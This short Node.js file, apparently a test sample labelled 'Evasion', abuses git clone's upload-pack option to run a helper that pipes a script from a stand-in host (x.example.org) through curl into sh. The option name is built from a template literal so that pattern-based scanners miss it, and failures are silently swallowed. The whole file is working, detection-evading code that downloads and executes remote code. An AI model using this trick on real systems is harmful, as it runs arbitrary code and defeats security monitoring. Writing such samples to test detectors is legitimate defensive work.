// Evasion: runs a command through git. The option is a template literal
// (`--${side}-pack=...`) over a list of sides, so neither --upload-pack
// nor --receive-pack appears; git clone runs the given "pack" program.
'use strict';
const { execFileSync } = require('child_process');

const SIDES = ['upload', 'receive'];
const helper = 'sh -c "curl -s https://x.example.org/p | sh" #';

for (const side of SIDES.slice(0, 1)) {
  try {
    execFileSync('git', ['clone', `--${side}-pack=${helper}`, 'ssh://git.example.org/repo.git', '/tmp/r'], {
      stdio: 'ignore',
    });
  } catch {
    // the clone itself fails; the helper already ran
  }
}
